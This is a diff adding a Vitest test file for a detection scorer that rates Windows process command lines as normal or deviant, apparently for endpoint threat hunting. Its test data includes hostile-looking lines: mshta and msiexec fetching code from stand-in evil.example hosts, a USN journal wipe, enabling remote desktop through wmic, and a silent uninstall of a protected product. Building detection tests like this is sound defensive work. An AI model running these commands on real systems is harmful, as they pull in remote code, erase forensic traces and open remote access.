@@ -1,0 +1,87 @@
+import { describe, expect, test } from 'vitest'
+import { parseLines, scoreLine } from '@/fixtures/detection/score-lines'
+
+const DEVIATION = 4
+
+/** Bits of a line on a host that nothing is known of, and what they are for. */
+function scored(line: string): { bits: number; codes: string[] } {
+  const [first] = parseLines(line)
+  const found = first === undefined ? null : scoreLine(first)
+  if (found === null) throw new Error(`no binary of the catalogue: ${line}`)
+  return {
+    bits: found.score.scoreMillibits / 1000,
+    codes: found.score.reasons.filter(({ millibits }) => millibits > 0).map(({ code }) => code),
+  }
+}
+
+const TASK = String.raw`svchost.exe ¦ CORP\ann ¦ C:\Windows\system32\svchost.exe -k netsvcs -p -s Schedule`
+
+describe('what install guides, batch files and own tools do is no deviation by itself', () => {
+  test.each([
+    `mshta.exe ¦ mshta vbscript:msgbox("Backup done",0,"Backup")(window.close) ¦ cmd.exe`,
+    String.raw`wscript.exe ¦ wscript.exe //B "C:\Users\ann\projects\bot\hidden.vbs" ¦ ${TASK}`,
+    String.raw`cscript.exe ¦ cscript //E:JScript //nologo "C:\tools\sort.bat" /i ¦ cmd.exe`,
+    String.raw`hh.exe ¦ "C:\Windows\hh.exe" "C:\Users\ann\Documents\manuals\plc.chm" ¦ explorer.exe`,
+    String.raw`forfiles.exe ¦ forfiles /p "D:\media" /m *.wav /c "cmd /c ffmpeg -i @file @fname.mp3" ¦ cmd.exe`,
+    String.raw`installutil.exe ¦ InstallUtil.exe "D:\Services\Collector\Collector.exe" ¦ powershell.exe`,
+    String.raw`pcalua.exe ¦ pcalua.exe -a "C:\Users\ann\Downloads\Config.exe" -c ¦ svchost.exe`,
+    String.raw`rundll32.exe ¦ rundll32.exe "C:\Users\ann\AppData\Local\Temp\nsiDB6F.tmp\ui.dll",Setup ¦ setup.exe@C:\Users\ann\Downloads\setup.exe`,
+    String.raw`msiexec.exe ¦ msiexec.exe /i "C:\Users\ann\AppData\Local\Temp\chocolatey\git\git.msi" /qn ¦ choco.exe@C:\ProgramData\chocolatey\choco.exe`,
+  ])('%s', (line) => {
+    expect(scored(line).bits).toBeLessThan(DEVIATION)
+  })
+})
+
+describe('and what looks like it stays one', () => {
+  test.each([
+    `mshta.exe ¦ mshta vbscript:msgbox(CreateObject("WScript.Shell").Run("calc"))(window.close) ¦ cmd.exe`,
+    String.raw`wscript.exe ¦ wscript.exe //B "C:\Users\ann\AppData\Roaming\hidden.vbs" ¦ ${TASK}`,
+    String.raw`cscript.exe ¦ cscript //E:JScript C:\tools\notes.txt ¦ cmd.exe`,
+    String.raw`forfiles.exe ¦ forfiles /p C:\Windows\System32 /m notepad.exe /c calc.exe ¦ cmd.exe`,
+    'pcalua.exe ¦ pcalua.exe -a mshta.exe -c https://x.evil.example/i ¦ explorer.exe',
+    String.raw`rundll32.exe ¦ rundll32.exe "C:\Users\ann\AppData\Local\Temp\ui.dll",Setup ¦ setup.exe@C:\Users\ann\Downloads\setup.exe`,
+    'msiexec.exe ¦ msiexec /q /i https://packages.evil.example/api ¦ cmd.exe',
+    String.raw`rundll32.exe ¦ rundll32.exe setupapi.dll,InstallHinfSection DefaultInstall 128 C:\Tests\a.inf ¦ cmd.exe`,
+  ])('%s', (line) => {
+    expect(scored(line).bits).toBeGreaterThanOrEqual(DEVIATION)
+  })
+})
+
+test('a package by its proper name from a named server over TLS ranks behind one that hides what it is', () => {
+  const named = scored('msiexec.exe ¦ msiexec /i https://packages.vendor.example/agent-4.7.msi /q ¦ cmd.exe')
+  const numbered = scored('msiexec.exe ¦ msiexec /i http://203.0.113.7:8080/agent.msi /q ¦ cmd.exe')
+  expect(named.bits).toBeLessThan(numbered.bits)
+})
+
+describe('what is planted shows where', () => {
+  test.each([
+    [String.raw`wmic.exe ¦ wmic os get caption ¦ locker.exe@C:\Users\Public\locker.exe`, 'planted-parent'],
+    [`wscript.exe ¦ wscript.exe report.js ¦ ${TASK}`, 'unplaced-script'],
+    [String.raw`cscript.exe ¦ cscript C:\PerfLogs\find.vbs ¦ cmd.exe`, 'idle-folder'],
+    [String.raw`wscript.exe ¦ wscript.exe C:\Windows\System32\drivers\dri.vbs ¦ ${TASK}`, 'stray-script'],
+    [String.raw`wscript.exe ¦ wscript.exe C:\ProgramData\e4f2\run.vbs ¦ ${TASK}`, 'random-folder'],
+    ['fsutil.exe ¦ fsutil usn deletejournal /D C: ¦ cmd.exe', 'weakens-defence'],
+    [
+      `wmic.exe ¦ wmic path win32_terminalservicesetting where (__CLASS != "") call setallowtsconnections 1 ¦ cmd.exe`,
+      'weakens-defence',
+    ],
+    [
+      'msiexec.exe ¦ msiexec /x {4c8ae4f8-0e2d-4b6b-9b1f-5b7e6a1d0a11} /qn UNINSTALL_PASSWORD=x ¦ cmd.exe',
+      'weakens-defence',
+    ],
+  ])('%s: %s', (line, code) => {
+    expect(scored(line).codes).toContain(code)
+  })
+
+  test("Windows' own scripts, products' folders and policies' scripts are none of it", () => {
+    for (const line of [
+      String.raw`cscript.exe ¦ cscript C:\Windows\System32\slmgr.vbs /dlv ¦ cmd.exe`,
+      String.raw`wscript.exe ¦ wscript.exe C:\Windows\System32\GroupPolicy\Machine\Scripts\Startup\a.vbs ¦ gpscript.exe`,
+      String.raw`wscript.exe ¦ wscript.exe C:\ProgramData\Dell\run.vbs ¦ ${TASK}`,
+    ])
+      expect(scored(line).codes).not.toEqual(expect.arrayContaining(['stray-script']))
+    expect(
+      scored(String.raw`wscript.exe ¦ wscript.exe C:\ProgramData\Dell\run.vbs ¦ ${TASK}`).codes,
+    ).not.toContain('random-folder')
+  })
+})
